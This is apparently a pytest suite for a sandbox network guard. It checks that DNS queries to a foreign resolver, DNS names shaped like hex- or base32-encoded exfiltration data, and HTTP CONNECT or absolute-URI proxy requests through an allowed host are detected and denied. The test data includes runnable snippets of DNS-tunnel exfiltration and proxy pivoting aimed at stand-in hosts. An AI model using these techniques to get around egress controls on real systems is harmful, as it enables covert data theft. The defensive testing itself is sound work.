"""Network behaviours the guard must surface, not just contain: DNS sent to a resolver
other than the sandbox's own, DNS names shaped like encoded data (even short ones), and
HTTP proxy requests (CONNECT, absolute URIs) through an allowed host to somewhere else.

Unit checks first, then one real allowlist session against the conftest's fake internet
(TEST-NET addresses this suite creates; nothing else is ever contacted).
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from sandbox import Sandbox, Store
from sandbox.events import ListEmit
from sandbox.network.gateway import Gateway
from sandbox.network.policy import Decision, Policy
from sandbox.network.resolver import TunnelDetector, conntrack_original_dst, encoded_shape
from sandbox.network.sniff import proxy_target, sniff
from tests.helpers import make_workspace, sandbox_cli, wait_for

from .conftest import DNS_IP, STANDIN_IP, FakeInternet

# -- units -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [
    "4a6f686e2e446f65.exfil.test", "4a6f686e.2e446f65.x.test", "mzxw6ytboi2dcmrt.x.test",
    "a1b2c3d4e5f6.x.test", "v1x9q2z7k4m8.x.test",
])
def test_short_encoded_names_are_suspect(name: str) -> None:
    assert encoded_shape(name)


@pytest.mark.parametrize("name", [
    "files.pythonhosted.org", "pypi.org", "api.github.com", "objects.githubusercontent.com",
    "registry.npmjs.org", "deb.debian.org", "s3.us-east-1.amazonaws.com", "good.test",
    "ns1.example.com", "mirror1.us2.example.com", "dl-cdn.alpinelinux.org",
])
def test_ordinary_names_are_not(name: str) -> None:
    assert encoded_shape(name) is None


def test_tunnel_detector_flags_a_short_encoded_name() -> None:
    emit = ListEmit()
    TunnelDetector(emit).observe("4a6f686e2e446f65.exfil.test", "A")
    [ev] = emit.of_kind("dns.tunnel")
    assert ev["severity"] == "alert" and "hex" in ev["detail"]["reason"]


def test_conntrack_lookup_finds_the_original_resolver(tmp_path: Path) -> None:
    table = tmp_path / "nf_conntrack"
    table.write_text(
        "ipv4     2 tcp      6 94 TIME_WAIT src=10.9.0.2 dst=203.0.113.10 sport=5 dport=443 "
        "src=203.0.113.10 dst=10.9.0.2 sport=443 dport=5 [ASSURED] mark=0 zone=0 use=2\n"
        "ipv4     2 udp      17 5 src=10.9.0.2 dst=10.9.0.1 sport=40001 dport=53 "
        "src=10.9.0.1 dst=10.9.0.2 sport=5353 dport=40001 mark=0 zone=0 use=2\n"
        "ipv4     2 udp      17 5 src=10.9.0.2 dst=198.51.100.9 sport=40002 dport=53 "
        "src=10.9.0.1 dst=10.9.0.2 sport=5353 dport=40002 mark=0 zone=0 use=2\n")
    local = ("10.9.0.1", 5353)
    assert conntrack_original_dst(("10.9.0.2", 40001), local, table) == ("10.9.0.1", 53)
    assert conntrack_original_dst(("10.9.0.2", 40002), local, table) == ("198.51.100.9", 53)
    assert conntrack_original_dst(("10.9.0.2", 40003), local, table) is None
    assert conntrack_original_dst(("10.9.0.2", 1), local, tmp_path / "missing") is None


def test_sniff_reports_proxy_targets() -> None:
    assert sniff(b"CONNECT bad.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n").proxy == \
        "bad.test:443"
    assert sniff(b"GET http://bad.test/x HTTP/1.1\r\nHost: good.test\r\n\r\n").proxy == \
        "bad.test:80"
    assert sniff(b"GET /x HTTP/1.1\r\nHost: good.test\r\n\r\n").proxy is None
    assert proxy_target(b"GET https://h.test:8443/ HTTP/1.1") == "h.test:8443"


def test_gateway_denies_proxy_requests_to_names_not_allowed() -> None:
    policy = Policy(["good.test:443", "pypi.test:443"], [], {})
    gw = Gateway(policy, names=None, emit=ListEmit(), address="127.0.0.1")  # type: ignore[arg-type]
    ok = Decision("allow", "allow entry good.test:443", "good.test")
    assert not gw._check_proxy("bad.test:443", "good.test", ok).allowed
    assert not gw._check_proxy("203.0.113.5:22", "good.test", ok).allowed
    assert gw._check_proxy("good.test:443", "good.test", ok).allowed
    assert gw._check_proxy("pypi.test:443", "good.test", ok).allowed  # allowed itself


# -- a real session -------------------------------------------------------------------------

PROFILE = f'''extends = "default"
[network]
mode = "allowlist"
allow = ["good.test:443", "{STANDIN_IP}:80"]
upstream_dns = "{DNS_IP}"
'''

# A DNS A query for good.test sent straight to the fake internet's DNS server (not the
# sandbox resolver); nftables sends it to the sandbox resolver, which answers and tells.
FOREIGN_DNS = textwrap.dedent(f"""\
    python3 - <<'EOF'
    import socket, struct
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in "good.test".split(".")) + b"\\0"
    q += struct.pack("!HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(q, ("{DNS_IP}", 53))
    print("answered", len(s.recv(512)) > 12)
    EOF""")
# The same over TCP, to another host of the fake internet (redirected the same way).
FOREIGN_DNS_TCP = textwrap.dedent(f"""\
    python3 - <<'EOF'
    import socket, struct
    q = struct.pack("!HHHHHH", 0x4321, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in "good.test".split(".")) + b"\\0"
    q += struct.pack("!HH", 1, 1)
    s = socket.create_connection(("{STANDIN_IP}", 53), timeout=3)
    s.sendall(struct.pack("!H", len(q)) + q)
    print("answered", len(s.recv(512)) > 14)
    EOF""")
ENCODED_NAME = ("python3 -c \"import socket\ntry: socket.getaddrinfo('4a6f686e2e446f65.exfil.test', 80)"
                "\nexcept OSError as e: print('nx', e)\"")
PROXY = textwrap.dedent(f"""\
    python3 - <<'EOF'
    import socket
    for req in (b"GET http://bad.test/ HTTP/1.1\\r\\nHost: {STANDIN_IP}\\r\\n\\r\\n",
                b"CONNECT bad.test:443 HTTP/1.1\\r\\nHost: {STANDIN_IP}\\r\\n\\r\\n"):
        s = socket.create_connection(("{STANDIN_IP}", 80), timeout=5)
        s.sendall(req)
        try:
            print(s.recv(100))
        except OSError as e:
            print("reset", e)
        s.close()
    EOF""")


def test_dns_and_proxy_behaviours_surface_in_a_real_session(
        test_dir: Path, fake_internet: FakeInternet) -> None:
    prof = test_dir / "allow.toml"
    prof.write_text(PROFILE)
    hits_before = fake_internet.hits.get("standin", 0)
    with Sandbox(profile=str(prof), workdir=make_workspace(test_dir / "w")) as box:
        sid = box.id
        # Benign first: an ordinary lookup and request raise none of these.
        ok = box.run("curl -sSk --noproxy '*' --max-time 10 https://good.test/", timeout=30)
        assert "hello from the fake internet" in ok.output, ok.output
        assert not [e for e in Store().events(sid, kinds=("guard.verdict",))
                    if e["rule"].startswith("tunnels.")]
        r = box.run(FOREIGN_DNS, timeout=30)
        assert "answered True" in r.output, r.output
        r = box.run(FOREIGN_DNS_TCP, timeout=30)
        assert "answered True" in r.output, r.output
        r = box.run(ENCODED_NAME, timeout=30)
        r = box.run(PROXY, timeout=30)
        assert not r.blocked

        def rules() -> set[str]:
            return {e["rule"] for e in Store().events(sid, kinds=("guard.verdict",))}

        want = {"tunnels.dns_foreign_resolver", "tunnels.dns_tunnel",
                "tunnels.http_proxy_request"}
        assert wait_for(lambda: want <= rules(), 10), rules()
    attempts = [e for e in Store().events(sid, kinds=("net.attempt",))]
    dns = {(e["detail"]["dst_ip"], e["detail"]["dst_port"], e["detail"]["transport"])
           for e in attempts if e["detail"].get("protocol") == "dns"}
    assert dns == {(DNS_IP, 53, "udp"), (STANDIN_IP, 53, "tcp")}, dns
    proxied = [e["detail"] for e in attempts if e["detail"].get("proxy")]
    assert {p["proxy"] for p in proxied} == {"bad.test:80", "bad.test:443"}
    assert all(p["verdict"] == "deny" for p in proxied)  # contained too
    assert fake_internet.hits.get("standin", 0) == hits_before  # nothing was relayed
    tunnels = Store().events(sid, kinds=("dns.tunnel",))
    assert any("4a6f686e2e446f65" in e["detail"]["name"] for e in tunnels)
    verdicts = [e for e in Store().events(sid, kinds=("guard.verdict",)) if e["rule"] in want]
    assert all(e["action"] == "flag" and e["severity"] == "alert" for e in verdicts)
    assert Store().get_session(sid)["n_alerts"] >= len(want)
    show = sandbox_cli("show", sid).stdout
    for rule in want:
        assert rule in show, rule
    from sandbox.record.export import report

    assert want <= {v["rule"] for v in report(Store(), sid)["violations"]}
